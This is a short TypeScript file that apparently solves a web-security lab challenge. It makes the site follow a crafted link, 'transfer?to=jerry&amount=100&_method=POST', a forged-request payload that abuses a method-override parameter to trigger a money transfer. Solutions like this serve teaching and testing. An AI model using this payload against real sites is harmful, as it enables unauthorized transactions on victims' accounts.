import type { Solve } from '../challenge'

export const solve: Solve = async ({ site }) => {
  await site('link', { path: 'transfer?to=jerry&amount=100&_method=POST' })
}
